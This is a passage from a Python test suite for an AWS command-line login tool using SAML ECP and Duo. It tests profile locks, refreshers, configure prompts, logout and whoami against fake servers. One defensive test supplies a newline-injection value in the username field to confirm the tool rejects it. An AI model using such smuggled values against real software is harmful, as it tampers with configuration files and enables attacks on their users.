        self.assertEqual((row["refresher_pid"], row["refresher_host"], row["refresher_local"]),
                         (pid, os.uname().nodename, True))
        # an earlier version's file names the same process: /proc proves it ours
        self.assertTrue(aws_login._may_signal(
            aws_login._parse_pid_file(b"%d 0\n" % pid, True), "default"))
        run = self.logout()
        self.assertNotIn("warning", run.stderr)
        self.assertTrue(_wait_for(lambda: _process_state(pid) in (None, "Z"), 10))

    def test_a_piped_refresher_is_known_by_its_open_pid_file(self):
        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
        with open(SCRIPT, "rb") as f:
            source = f.read()
        run = self.tool(["login", "--force"], stdin=source, argv_prefix=[sys.executable, "-"],
                        terminal=False)
        pid = int(re.search(r"A refresher \(pid (\d+)\)", run.stderr).group(1))
        # the same shape as from a file: a fresh interpreter, our code from a descriptor
        self.assertTrue(_wait_for(lambda: b"_refresher_loop(" in _cmdline(pid), 10),
                        _cmdline(pid))
        self.assertNotIn(b"login", _cmdline(pid).split(b"\0"))
        time.sleep(0.5)
        rss = _resident_kb(pid)
        sys.stderr.write("piped refresher: %d kB\n" % rss)
        self.assertLess(rss, 20000)
        run = self.logout()
        self.assertNotIn("warning", run.stderr)
        self.assertTrue(_wait_for(lambda: _process_state(pid) in (None, "Z"), 10))


# ---------------------------------------------------------------------------
# Login, logout, configure: what the commands do, for a profile
# ---------------------------------------------------------------------------

def _someone_waits_for(path):
    """Whether a process waits for the flock on ``path``: blocked in flock (a "->"
    line in /proc/locks), or trying it again and again as a renewal nobody
    started does, the file open beside the one descriptor of its holder."""
    target = os.stat(path)
    inode = ":%d " % target.st_ino
    with open("/proc/locks") as f:
        if any("->" in line and inode in line for line in f):
            return True
    # A poller opens the file just before its first try: only one that keeps
    # it open for a while has surely tried, and found it taken.
    return _opened_twice(target) and not any(
        time.sleep(0.1) or not _opened_twice(target) for _ in range(5))


def _opened_twice(target):
    opened = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            fds = os.listdir("/proc/%s/fd" % pid)
        except OSError:
            continue
        for fd in fds:
            try:
                st = os.stat("/proc/%s/fd/%s" % (pid, fd))
            except OSError:
                continue
            opened += (st.st_dev, st.st_ino) == (target.st_dev, target.st_ino)
    return opened > 1


class LoginLockTest(LoginTestCase):
    """One login of a profile at a time: a second one waits, says so once, then
    sees what the first did; the refresher alive serves the credentials written."""

    WAITING = "Another login of profile default is in progress; waiting for it to finish.\n"

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure(username="bob", factor="auto", password="bob-pass", refresh="true")
        self.lock_path = os.path.join(self.home, ".aws-login", "cache", ".default.lock")

    def hold(self, path):
        """flock ``path`` (made 0600 if missing); returns the fd to close."""
        os.makedirs(os.path.dirname(path), 0o700, exist_ok=True)
        fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
        fcntl.flock(fd, fcntl.LOCK_EX)
        return fd

    def in_thread(self, function, *args, **kw):
        result = {}

        def run():
            try:
                result["value"] = function(*args, **kw)
            except BaseException as e:
                result["error"] = e
        thread = threading.Thread(target=run)
        thread.daemon = True
        thread.start()
        return thread, result

    @slow
    def test_two_logins_at_once_leave_the_last_ones_refresher(self):
        for trial in range(5):
            with self.subTest(trial=trial):
                started = [self.in_thread(self.tool, ["login", "--force", "--role-arn", role],
                                          terminal=False) for role in (ADMIN, DEV)]
                runs = {}
                for role, (thread, result) in zip((ADMIN, DEV), started):
                    thread.join(120)
                    runs[role] = result.get("value", result.get("error"))
                    self.assertEqual(getattr(runs[role], "code", None), 0, runs[role])
                role = self.credentials()["aws_login_role_arn"]
                other = DEV if role == ADMIN else ADMIN
                match = re.search(r"A refresher \(pid (\d+)\) renews them", runs[role].stderr)
                self.assertTrue(match, runs)
                pid = int(match.group(1))
                state = aws_login._refresher_state("default")
                self.assertEqual((state.pid, state.alive, state.role_arn), (pid, True, role),
                                 runs)
                self.assertNotIn(_process_state(pid), (None, "Z"))
                match = re.search(r"A refresher \(pid (\d+)\) renews them", runs[other].stderr)
                self.assertTrue(match, runs)
                self.assertTrue(_wait_for(
                    lambda: _process_state(int(match.group(1))) in (None, "Z"), 10), runs)
                self.assertLessEqual(sum(r.stderr.count(self.WAITING) for r in runs.values()),
                                     1, runs)

    def test_a_second_login_waits_says_so_once_then_sees_the_first(self):
        lock = self.hold(self.lock_path)
        try:
            thread, result = self.in_thread(self.tool, ["login", "--role-arn", ADMIN],
                                            terminal=False)
            self.assertTrue(_wait_for(lambda: _someone_waits_for(self.lock_path), 30), result)
            self.assertEqual((self.idp.requests, os.path.exists(self.credentials_file)),
                             ([], False))
            # meanwhile the first login writes the credentials, starts its refresher
            aws_login._FileStore("default").write(_fake_credentials(), ADMIN)
            sleeper = subprocess.Popen(["sleep", "120"])
            self.addCleanup(sleeper.wait)
            self.addCleanup(sleeper.kill)
            pid_file = os.path.join(self.home, ".aws-login", "run", "default.pid")
            os.makedirs(os.path.dirname(pid_file), 0o700)
            self.addCleanup(os.close, self.hold(pid_file))
            self.write(pid_file, "%d 1900000000\n" % sleeper.pid)
        finally:
            os.close(lock)
        thread.join(60)
        run = result.get("value", result.get("error"))
        self.assertEqual(getattr(run, "code", None), 0, run)
        self.assertTrue(run.stderr.startswith(self.WAITING + "Already logged in to profile "
                                              "default as %s" % ADMIN), run)
        self.assertEqual(run.stderr.count(self.WAITING), 1)
        self.assertEqual(self.idp.requests, [])

    def test_credential_process_renews_under_the_same_lock_quietly(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        self.assertEqual(self.tool(["configure", "--credential-process"], terminal=False).code, 0)
        lock = self.hold(self.lock_path)
        try:
            thread, result = self.in_thread(self.tool, ["credential-process"], terminal=False)
            self.assertTrue(_wait_for(lambda: _someone_waits_for(self.lock_path), 30), result)
            self.assertEqual(self.idp.requests, [])
        finally:
            os.close(lock)
        thread.join(60)
        run = result.get("value", result.get("error"))
        self.assertEqual((getattr(run, "code", None), run.stderr), (0, ""), run)
        self.assertEqual(json.loads(run.stdout)["AccessKeyId"],
                         self.sts.issued[-1]["AccessKeyId"])

    def test_the_python_api_waits_too_even_in_another_thread_of_the_holder(self):
        profile = aws_login.read_profile("default")
        for call, stored in [
                (lambda: aws_login.get_credentials("default", role_arn=DEV), DEV),
                (lambda: aws_login.get_credentials("default", role_arn=ADMIN, store=False), DEV),
                (lambda: aws_login.login(profile, role_arn=ADMIN)[0], ADMIN)]:
            err = io.StringIO()
            saved, sys.stderr = sys.stderr, err
            try:
                with aws_login._profile_lock("default"):        # held by this thread
                    thread, result = self.in_thread(call)
                    self.assertTrue(_wait_for(lambda: _someone_waits_for(self.lock_path), 30),
                                    result)
                    self.assertEqual(result, {})
                thread.join(60)
            finally:
                sys.stderr = saved
            self.assertEqual(result["value"].access_key_id, self.sts.issued[-1]["AccessKeyId"])
            self.assertEqual(self.credentials()["aws_login_role_arn"], stored)
            self.assertEqual(err.getvalue(), self.WAITING)
        self.assertEqual(os.stat(self.lock_path).st_mode & 0o777, 0o600)
        self.assertEqual(os.stat(os.path.dirname(self.lock_path)).st_mode & 0o777, 0o700)

    def test_the_refresher_starts_before_the_lock_goes(self):
        seen = []

        def start_refresher(*args):
            fd = os.open(self.lock_path, os.O_RDWR)
            try:
                fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
                seen.append("free")
            except OSError:
                seen.append("held")
            finally:
                os.close(fd)
            return 4242
        self.addCleanup(setattr, aws_login, "_start_refresher", aws_login._start_refresher)
        aws_login._start_refresher = start_refresher
        err = io.StringIO()
        saved, sys.stderr = sys.stderr, err
        try:
            aws_login._login_and_report(aws_login.read_profile("default"), DEV, False, False)
        finally:
            sys.stderr = saved
        self.assertEqual(seen, ["held"])
        self.assertIn("A refresher (pid 4242) renews them.", err.getvalue())


# A child with no terminal whose renewals have LIMIT seconds in all; it runs
# the command line given after LIMIT, as main() does.
SHORT_LIMIT_CHILD = ("import sys; sys.path.insert(0, %r); import aws_login; "
                     "aws_login._RenewalSchedule.TIME_LIMIT = float(sys.argv[1]); "
                     "sys.exit(aws_login.main(sys.argv[2:]))" % HERE)


class LockWaitTest(LoginTestCase):
    """A renewal nobody started (no terminal: credential-process, a login, the
    credential server) waits for the profile's lock within its time limit, the
    wait included, and not at all behind a person's login at its prompt: it
    serves credentials still valid, else exits 11 saying so."""

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure(username="alice", factor="auto")       # no password: a login asks
        run = self.tool(["configure", "--credential-process"], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.lock_path = os.path.join(self.home, ".aws-login", "cache", ".default.lock")

    def cache(self, seconds_left, n=7):
        """Credentials of ours in the credential_process cache, ``seconds_left`` to go."""
        credentials = aws_login.Credentials("ASIA%016d" % n, "secret%d" % n, "token%d" % n,
                                            aws_login._utc(int(time.time() + seconds_left)))
        aws_login._ProcessStore("default").write(credentials, ADMIN)
        return credentials

    def login_at_prompt(self):
        """`login --force` on a terminal of its own, held at its Password: prompt;
        returns (process, the terminal's master end)."""
        master, slave = os.openpty()
        code = "import os; os.close(os.open(%r, os.O_RDWR)); %s" % (os.ttyname(slave),
                                                                     BYTECODE_CODE)
        proc = subprocess.Popen([sys.executable, "-c", code, "login", "--force"],
                                stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, start_new_session=True)

        def end():
            if proc.poll() is None:
                proc.kill()
            proc.wait()
            for stream in (proc.stdout, proc.stderr):
                stream.close()
            os.close(master)
            os.close(slave)
        self.addCleanup(end)
        shown, deadline = b"", time.time() + 30
        while b"Password: " not in shown:
            self.assertTrue(time.time() < deadline and proc.poll() is None,
                            (shown, proc.poll() is not None and proc.communicate()))
            if select.select([master], [], [], 0.1)[0]:
                shown += os.read(master, 4096)
        return proc, master

    def timed(self, args, **kw):
        started = time.monotonic()
        run = self.tool(args, terminal=False, timeout=20, **kw)
        return run, time.monotonic() - started

    def test_no_terminal_does_not_wait_for_a_person_at_a_prompt(self):
        valid = self.cache(600)                 # valid, under the 15 minutes of fresh
        person, master = self.login_at_prompt()
        run, took = self.timed(["credential-process"])
        self.assertEqual((run.code, run.stderr), (0, ""), run)
        self.assertEqual(json.loads(run.stdout)["AccessKeyId"], valid.access_key_id)
        self.assertLess(took, 5)
        run, took = self.timed(["env"])
        self.assertEqual(run.code, 0, run)
        self.assertIn("AWS_ACCESS_KEY_ID=%s\n" % valid.access_key_id, run.stdout)
        self.assertLess(took, 5)
        self.cache(-60)                         # expired: only the person can go on
        waiting = ("aws_login: error: a login of profile default (pid %d) is waiting for its "
                   "person at a terminal; " % person.pid)
        for args in (["credential-process"], ["login"], ["env"]):
            run, took = self.timed(args)
            self.assertEqual(run.code, 11, run)
            self.assertTrue(run.stderr.startswith(waiting), run.stderr)
            self.assertEqual(len(run.stderr.splitlines()), 1, run.stderr)
            self.assertLess(took, 5)
        self.assertEqual(self.idp.logins, [])
        os.write(master, (PASSWORD + "\n").encode())   # the person answers
        out, err = person.communicate(timeout=30)
        self.assertEqual(person.returncode, 0, err)
        run, took = self.timed(["credential-process"])
        self.assertEqual(run.code, 0, run)
        self.assertEqual(json.loads(run.stdout)["AccessKeyId"],
                         self.sts.issued[-1]["AccessKeyId"])
        self.assertEqual(len(self.sts.issued), 1)
        with open(self.lock_path, "rb") as f:
            self.assertEqual(f.read(), b"")     # no login holds it: it names none

    def in_thread(self, function, *args, **kw):
        result = {}

        def run():
            try:
                result["value"] = function(*args, **kw)
            except BaseException as e:
                result["error"] = e
        thread = threading.Thread(target=run)
        thread.daemon = True
        thread.start()
        return thread, result

    def hold(self, text=b"", path=None):
        """flock the profile's lock as another process would, ``text`` in it."""
        path = path or self.lock_path
        os.makedirs(os.path.dirname(path), 0o700, exist_ok=True)
        fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
        fcntl.flock(fd, fcntl.LOCK_EX)
        os.ftruncate(fd, 0)
        os.write(fd, text)
        return fd

    def test_a_mark_of_a_dead_login_or_of_another_host_does_not_stop_the_wait(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        host, boot_id = aws_login._this_machine()
        gone = subprocess.Popen(["true"])
        gone.wait()
        me = (os.getpid(), aws_login._process_start(os.getpid()))
        for pid, start, machine in [(gone.pid, "1", (host, boot_id)),
                                    (me[0], me[1], ("elsewhere.example", boot_id)),
                                    (me[0], me[1], (host, "another-boot")),
                                    (me[0], str(int(me[1]) + 1), (host, boot_id))]:
            self.cache(-60)
            lock = self.hold(aws_login._person_mark(pid, start, machine))
            try:
                thread, result = self.in_thread(self.tool, ["credential-process"],
                                                terminal=False, timeout=30)
                # it reads the mark as soon as it finds the lock taken
                self.assertTrue(_wait_for(lambda: _someone_waits_for(self.lock_path), 30),
                                result)
                time.sleep(0.3)
                self.assertEqual(result, {})    # still waiting: no exit 11
            finally:
                os.close(lock)
            thread.join(30)
            run = result.get("value", result.get("error"))
            self.assertEqual(getattr(run, "code", None), 0, (pid, machine, run, self.idp.tls_errors,
                                                             self.idp.connection_errors))
        # the same mark of a live login of this machine: exit 11 at once
        lock = self.hold(aws_login._person_mark(me[0], me[1], (host, boot_id)))
        try:
            self.cache(-60)
            run, took = self.timed(["credential-process"])
        finally:
            os.close(lock)
        self.assertEqual(run.code, 11, run)
        self.assertLess(took, 5)

    @slow
    def test_the_wait_for_the_lock_counts_in_the_time_limit(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        self.cache(-60)
        command = [sys.executable, "-c", SHORT_LIMIT_CHILD, "2.5", "credential-process"]

        def renew(release_after):
            lock = self.hold()
            if release_after is not None:
                timer = threading.Timer(release_after, os.close, (lock,))
                timer.start()
            started = time.monotonic()
            try:
                proc = subprocess.run(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                      stderr=subprocess.PIPE, start_new_session=True,
                                      timeout=20)
            finally:
                if release_after is None:
                    os.close(lock)
                else:
                    timer.join()
            return proc, time.monotonic() - started
        # held throughout: the renewal gives up at its limit
        proc, took = renew(None)
        self.assertEqual(proc.returncode, 9, proc)
        self.assertRegex(proc.stderr.decode(), r"^aws_login: error: another login or renewal "
                         r"of profile default held its lock .* past the 2 s a renewal nobody started has")
        self.assertGreater(took, 2.4)
        self.assertLess(took, 4.5)
        self.assertEqual(self.idp.requests, [])
        # held 1.5 s of the 2.5, and the IdP slow: the login has what is left, no more
        self.idp.delay = 10
        proc, took = renew(1.5)
        self.assertEqual(proc.returncode, 4, proc)      # the Duo push never answered
        self.assertIn("in time", proc.stderr.decode())
        self.assertLess(took, 3.8)          # not 1.5 + 2.5

    def test_the_credential_server_serves_what_it_has_while_a_person_logs_in(self):
        self.configure("srv", username="alice", factor="auto", password=PASSWORD)
        now = [time.time()]
        source = aws_login._ServedCredentials("srv", clock=lambda: now[0])
        source.renew()
        first = source.credentials
        me = aws_login._person_mark(os.getpid(), aws_login._process_start(os.getpid()),
                                    aws_login._this_machine())
        lock = self.hold(me, os.path.join(self.home, ".aws-login", "cache", ".srv.lock"))
        try:
            now[0] = source.next_at             # a renewal is due
            started = time.monotonic()
            source.step()
            self.assertLess(time.monotonic() - started, 1)
            self.assertIsInstance(source.failure, aws_login.InteractionRequired)
            self.assertIn("is waiting for its person", str(source.failure))
            self.assertEqual(source.current(0), (first, ADMIN))    # valid: served at once
            # no mark: the renewal waits for the lock its time limit, no more
            os.ftruncate(lock, 0)
            saved = aws_login._RenewalSchedule.TIME_LIMIT
            aws_login._RenewalSchedule.TIME_LIMIT = 1.0
            self.addCleanup(setattr, aws_login._RenewalSchedule, "TIME_LIMIT", saved)
            now[0] = source.next_at
            started = time.monotonic()
            source.step()
            took = time.monotonic() - started
        finally:
            os.close(lock)
        self.assertIsInstance(source.failure, aws_login.CredentialsFileError)
        self.assertGreater(took, 0.9)
        self.assertLess(took, 3)
        self.assertEqual(len(self.sts.issued), 1)
        self.assertEqual(source.current(0), (first, ADMIN))


class LoginOverridesTest(LoginTestCase):
    def test_ca_bundle_region_and_no_verify_ssl_for_one_login(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        del os.environ["AWS_CA_BUNDLE"]
        run = self.tool(["login"], terminal=False)
        self.assert_nothing_written(run, 8)
        self.assertEqual(self.idp.requests, [])
        run = self.tool(["login", "--ca-bundle", self.pems["ca"], "--region", "eu-west-1"],
                        terminal=False)
        self.assert_logged_in(run)
        self.assertEqual(aws_login.read_profile("default").ca_bundle, None)    # this time only
        run = self.tool(["login", "--force", "--no-verify-ssl"], terminal=False)
        self.assertEqual(run.code, 8, run)      # the IdP's certificate alone: STS's is checked
        self.assertIn("TLS CERTIFICATE CHECKING IS OFF for the IdP", run.stderr)
        self.assertIn("(the --no-verify-ssl flag turns off the IdP's check alone", run.stderr)
        run = self.tool(["login", "--force", "--no-verify-ssl", "--ca-bundle", self.pems["ca"]],
                        terminal=False)
        self.assert_logged_in(run)
        run = self.tool(["login", "--region", "mars"], terminal=False)
        self.assertEqual(run.code, 3, run)


class NonInteractiveTest(LoginTestCase):
    def test_password_from_stdin_without_a_terminal(self):
        self.configure(username="alice", factor="auto")
        run = self.tool(["login", "--password-stdin"], terminal=False,
                        stdin=(PASSWORD + "\n").encode())
        self.assert_logged_in(run)
        run = self.tool(["login", "--password-stdin", "--force"], terminal=False, stdin=b"")
        self.assertEqual(run.code, 2, run)

    def test_password_from_stdin_is_kept_in_the_keyring(self):
        keyring = FakeKeyring(self.home)
        self.configure(username="alice", factor="auto", enable_keyring="true")
        run = self.tool(["login", "--password-stdin"], terminal=False, env=keyring.env(),
                        stdin=(PASSWORD + "\n").encode())
        self.assert_logged_in(run)
        self.assertEqual(keyring.items(), {"awscli_login alice@" + self.idp.host_port: PASSWORD})

    def test_anything_missing_fails_at_once(self):
        self.configure(username="bob", factor="auto", password="bob-pass")
        started = time.time()
        run = self.tool(["login"], terminal=False)      # two roles, none configured
        self.assertEqual(run.code, 11, run)
        self.assertIn("no terminal", run.stderr)
        self.assertLess(time.time() - started, 10)


AWSCLI_LOGIN_CONFIG = """[default]
ecp_endpoint_url = {url}
username = alice
enable_keyring = True
factor = push
role_arn = {role}

[prod]
ecp_endpoint_url = {url}
username = bob
factor = passcode
duration = 7200
http_header_factor = X-Shibboleth-Duo-Factor
verify_ssl_certificate = True
"""


class MigrationTest(LoginTestCase):
    """awscli-login's files, as it writes them, work unchanged."""

    def test_its_config_and_keyring_entry_log_in_with_nothing_asked(self):
        os.remove(self.config_file) if os.path.exists(self.config_file) else None
        self.write(self.config_file, AWSCLI_LOGIN_CONFIG.format(url=self.idp.url, role=ADMIN))
        keyring = FakeKeyring(self.home)
        keyring.set("alice@" + self.idp.host_port, PASSWORD)    # its `keyring set` entry
        run = self.tool(["login", "--no-refresh"], terminal=False, env=keyring.env())
        self.assert_logged_in(run)
        self.assertEqual(self.idp.requests[-1]["headers"]["X-Shibboleth-Duo-Factor"], "push")
        prod = aws_login.read_profile("prod")
        self.assertEqual((prod.username, prod.factor, prod.duration, prod.verify_ssl_certificate),
                         ("bob", "passcode", 7200, True))

    @slow
    def test_its_defaults_duration_0_and_factor_off_mean_not_set(self):
        # awscli-login 1.0 writes duration = 0 ("not set"), and reads 0, no,
        # false, off and disable as "no Duo factor".
        for word in ("off", "0", "No", "false", "disable"):
            self.write(self.config_file, "[default]\necp_endpoint_url = %s\nusername = alice\n"
                       "enable_keyring = False\nfactor = %s\nrole_arn = \nduration = 0\n"
                       % (self.idp.url, word))
            profile = aws_login.read_profile("default")
            self.assertEqual((profile.factor, profile.duration), ("off", None), word)
            before = len(self.idp.requests)
            run = self.tool(["login", "--no-refresh"], [("Password: ", PASSWORD)])
            self.assert_logged_in(run)
            self.assertNotIn("Factor", run.tty)
            for request in self.idp.requests[before:]:
                for header in DUO_HEADERS + DUO_HEADERS_MISSPELLED:
                    self.assertNotIn(header, request["headers"], word)
            self.assertNotIn("DurationSeconds", self.sts.requests[-1]["form"])
            self.tool(["logout", "--forget"], terminal=False)
        self.assertRaises(aws_login.ConfigError, aws_login._check_factor, "never")
        self.assertRaises(aws_login.ConfigError, aws_login._check_duration, "899")
        self.assertEqual(aws_login._check_duration("900"), 900)

    def test_a_blank_factor_without_a_terminal_is_auto(self):
        self.write(self.config_file, "[default]\necp_endpoint_url = %s\nusername = alice\n"
                   "factor = \n" % self.idp.url)
        run = self.tool(["login", "--password-stdin", "--no-refresh"], terminal=False,
                        stdin=(PASSWORD + "\n").encode())
        self.assert_logged_in(run)
        self.assertEqual(self.idp.requests[-1]["headers"]["X-Shibboleth-Duo-Factor"], "auto")

    def test_awscli_login_root_stands_for_the_home_folder(self):
        elsewhere = os.path.join(self.home, "elsewhere")
        os.environ["AWSCLI_LOGIN_ROOT"] = elsewhere
        self.assertEqual(aws_login._config_path(),
                         os.path.join(elsewhere, ".aws-login", "config"))
        del os.environ["AWSCLI_LOGIN_ROOT"]
        self.assertEqual(aws_login._config_path(),
                         os.path.join(self.home, ".aws-login", "config"))


class LogoutTest(LoginTestCase):
    def test_logout_removes_only_the_profile(self):
        before = "[work]\naws_access_key_id = AKIA\naws_secret_access_key = s\n"
        self.write(self.credentials_file, before)
        self.configure(username="alice", factor="auto", password=PASSWORD)
        self.configure("second", username="alice", factor="auto", password=PASSWORD)
        self.assert_logged_in(self.tool(["login"], terminal=False))
        self.assert_logged_in(self.tool(["--profile", "second", "login"], terminal=False),
                              profile="second")
        run = self.tool(["logout"], terminal=False)
        self.assertEqual((run.code, run.stderr), (0, "Logged out of profile default.\n"))
        self.assertIsNone(self.credentials("default"))
        self.assertIsNotNone(self.credentials("second"))
        run = self.tool(["logout", "--all"], terminal=False)
        self.assertEqual(run.code, 0)
        self.assertEqual(self.read(self.credentials_file), before)

    def test_logging_out_twice_is_calm_with_exit_10(self):
        run = self.tool(["logout"], terminal=False)
        self.assertEqual(run.code, 10)
        self.assertEqual(run.stderr, "Not logged in to profile default: nothing to remove.\n")

    def test_logout_leaves_sections_it_did_not_write(self):
        before = "[default]\naws_access_key_id = AKIA\naws_secret_access_key = s\n"
        self.write(self.credentials_file, before)
        run = self.tool(["logout"], terminal=False)
        self.assertEqual(run.code, 9)
        self.assertEqual(self.read(self.credentials_file), before)


class ConfigureTest(LoginTestCase):
    @readme_route
    def test_prompts_validate_and_reask(self):
        self.write(self.config_file, "# my settings\n[other]\nusername = x\n")
        run = self.tool(["configure"], [
            ("ECP Endpoint URL [None]: ", "http://idp.example.edu/ecp"),
            ("ECP Endpoint URL [None]: ", self.idp.url),
            ("Username [None]: ", "alice"),
            ("Enable Keyring [False]: ", "maybe"),
            ("Enable Keyring [False]: ", "true"),
            ("Duo Factor [None]: ", "yubikey"),
            ("Duo Factor [None]: ", "push"),
            ("Role ARN [None]: ", "arn:aws:iam::1:role/x"),
            ("Role ARN [None]: ", ADMIN),
            ("Region [None]: ", ""),
            ("Use credential_process [False]: ", "")])
        self.assertEqual(run.code, 0, run)
        self.assertIn("plain http", run.tty)
        self.assertIn("not one of auto, push", run.tty)
        self.assertEqual(self.read(self.config_file),
                         "# my settings\n[other]\nusername = x\n\n[default]\n"
                         "ecp_endpoint_url = %s\nusername = alice\nenable_keyring = true\n"
                         "factor = push\nrole_arn = %s\n" % (self.idp.url, ADMIN))
        self.assertEqual(os.stat(self.config_file).st_mode & 0o777, 0o600)
        self.assertEqual(os.stat(os.path.dirname(self.config_file)).st_mode & 0o777, 0o700)
        run = self.tool(["configure"], [("ECP Endpoint URL [%s]: " % self.idp.url, ""),
                                        ("Username [alice]: ", "bob"),
                                        ("Enable Keyring [True]: ", ""),
                                        ("Duo Factor [push]: ", ""),
                                        ("Role ARN [%s]: " % ADMIN, ""),
                                        ("Region [None]: ", ""),
                                        ("Use credential_process [False]: ", "")])
        self.assertEqual(run.code, 0, run)
        profile = aws_login.read_profile("default")
        self.assertEqual((profile.username, profile.factor, profile.enable_keyring),
                         ("bob", "push", True))

    def test_flags_set_values_without_prompts(self):
        run = self.tool(["--profile", "ci", "configure", "--ecp-endpoint-url", self.idp.url,
                         "--username", "alice", "--factor", "passcode", "--role-arn", ADMIN,
                         "--duration", "3600", "--region", "eu-west-1",
                         "--ca-bundle", self.pems["ca"]], terminal=False)
        self.assertEqual(run.code, 0, run)
        profile = aws_login.read_profile("ci")
        self.assertEqual((profile.username, profile.factor, profile.role_arn, profile.duration,
                          profile.region), ("alice", "passcode", ADMIN, 3600, "eu-west-1"))
        run = self.tool(["configure", "--ecp-endpoint-url", "http://idp.example.edu/"],
                        terminal=False)
        self.assertEqual(run.code, 3)
        self.assertFalse(aws_login.read_profile("default", require_endpoint=False)
                         .ecp_endpoint_url)

    def test_configure_refuses_line_breaks_and_can_fix_a_bad_value(self):
        self.configure(ecp_endpoint_url="http://idp.example.edu/ecp")
        run = self.tool(["configure", "--username", "bob\nduration = 5"], terminal=False)
        self.assertEqual(run.code, 3, run)
        run = self.tool(["configure", "--ecp-endpoint-url", self.idp.url], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertEqual(aws_login.read_profile("default").ecp_endpoint_url, self.idp.url)


class ConfigureProbeTest(LoginTestCase):
    """Interactive configure sends login's first request (no password, no Duo
    header) to the endpoint it is given, and asks for a CA bundle when the
    IdP's certificate is not trusted; with flags it sends and asks nothing."""

    REST = [("Username [None]: ", "alice"), ("Enable Keyring [False]: ", ""),
            ("Duo Factor [None]: ", "push"), ("Role ARN [None]: ", ""),
            ("Region [None]: ", ""), ("Use credential_process [False]: ", "")]

    def probes(self):
        """What reached the IdP: each request's Authorization and Duo headers."""
        return [(r["authorization"], sorted(h for h in r["headers"] if "duo" in h.lower()))
                for r in self.idp.requests]

    def test_an_untrusted_certificate_asks_for_a_ca_bundle_and_stores_it(self):
        del os.environ["AWS_CA_BUNDLE"]
        run = self.tool(["configure", "--ecp-endpoint-url", self.idp.url])  # on a terminal
        self.assertEqual((run.code, run.tty, self.probes()), (0, "", []), run)
        run = self.tool(["configure"], [
            ("ECP Endpoint URL [%s]: " % self.idp.url, ""),
            ("CA Bundle [None]: ", os.path.join(self.home, "missing.pem")),
            ("CA Bundle [None]: ", self.config_file),                  # no PEM in it
            ("CA Bundle [None]: ", self.pems["untrusted_cert"]),    # not the IdP's CA
            ("CA Bundle [None]: ", self.pems["ca"])] + self.REST)
        self.assertEqual(run.code, 0, run)
        self.assertIn("not trusted", run.tty)
        self.assertIn("is not a file", run.tty)
        self.assertIn("cannot load the CA bundle", run.tty)
        self.assertIn("does not hold the CA", run.tty)
        self.assertEqual(self.probes(), [(None, [])])    # the rest failed the handshake
        self.assertEqual(aws_login.read_profile("default").ca_bundle, self.pems["ca"])
        self.assert_logged_in(self.tool(["login"], [("Password: ", PASSWORD)]))

    def test_a_trusted_certificate_asks_nothing_more(self):
        run = self.tool(["configure"], [("ECP Endpoint URL [None]: ", self.idp.url)] + self.REST)
        self.assertEqual(run.code, 0, run)
        self.assertNotIn("CA Bundle", run.tty)
        self.assertEqual(self.probes(), [(None, [])])
        self.assertIsNone(aws_login.read_profile("default").ca_bundle)
        self.configure("old", duration="5")       # an old bad value, fixed by flag later
        run = self.tool(["--profile", "old", "configure"],
                        [("ECP Endpoint URL [%s]: " % self.idp.url, "")] + self.REST)
        self.assertEqual(run.code, 0, run)
        self.assertIn("duration", run.tty)
        wrong = self.idp.base_url + "/idp/profile/SAML2/SOAP/nothing"      # a 404
        run = self.tool(["configure"], [("ECP Endpoint URL [%s]: " % self.idp.url, wrong)] + [
            (prompt.replace("None", "alice" if "User" in prompt else "push" if "Duo" in prompt
                            else "None"), "") for prompt, _ in self.REST])
        self.assertEqual(run.code, 0, run)      # said, and saved: login will say it again
        self.assertIn("404", run.tty)
        self.assertNotIn("CA Bundle", run.tty)
        self.assertEqual(aws_login.read_profile("default").ecp_endpoint_url, wrong)


# ---------------------------------------------------------------------------
# Using the credentials: whoami, exec, env, console
# ---------------------------------------------------------------------------

class FakeFederation(_FakeServer):
    """AWS sign-in's federation endpoint: getSigninToken for session credentials."""

    path = '/federation'

    def __init__(self, *args, **kwargs):
        _FakeServer.__init__(self, *args, **kwargs)
        self.sessions = []

    def _respond(self, handler):
        query = dict(parse_qsl(urlsplit(handler.path).query))
        if handler.path_only != self.path or query.get('Action') != 'getSigninToken':
            return (400, {'Content-Type': 'text/plain'}, b'bad request')
        session = json.loads(query['Session'])
        self._note('sessions', session)
        return (200, {'Content-Type': 'application/json'},
                json.dumps({'SigninToken': 'signin-token-%d' % len(self.sessions)}).encode())


class CommandsTest(LoginTestCase):
    """whoami, exec, env and console with the credentials of a login."""

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure(username="alice", factor="auto", password=PASSWORD)
        self.assert_logged_in(self.tool(["login"], terminal=False))
        self.issued = self.sts.issued[-1]

    def test_whoami_signs_get_caller_identity(self):
        run = self.tool(["whoami"], terminal=False)
        self.assertEqual(run.code, 0, run)
        arn = "arn:aws:sts::%s:assumed-role/Admin/alice" % ACCOUNT_A
        self.assertEqual(run.stdout, "Account  %s\nArn      %s\nUserId   AROAFAKE:alice\n"
                         % (ACCOUNT_A, arn))
        run = self.tool(["whoami", "--output", "json"], terminal=False)
        self.assertEqual(json.loads(run.stdout), {"Account": ACCOUNT_A, "Arn": arn,
                                                  "UserId": "AROAFAKE:alice"})
        request = self.sts.requests[-1]
        self.assertEqual(request["form"]["Action"], "GetCallerIdentity")
        self.assertEqual(request["headers"]["X-Amz-Security-Token"], self.issued["SessionToken"])

    def test_whoami_with_a_wrong_secret_shows_awss_error(self):
        text = self.read(self.credentials_file).replace(self.issued["SecretAccessKey"], "wrong")
        self.write(self.credentials_file, text)
        run = self.tool(["whoami"], terminal=False)
        self.assertEqual(run.code, 7, run)
        self.assertIn("SignatureDoesNotMatch: The request signature we calculated", run.stderr)

    def test_whoami_logged_out(self):
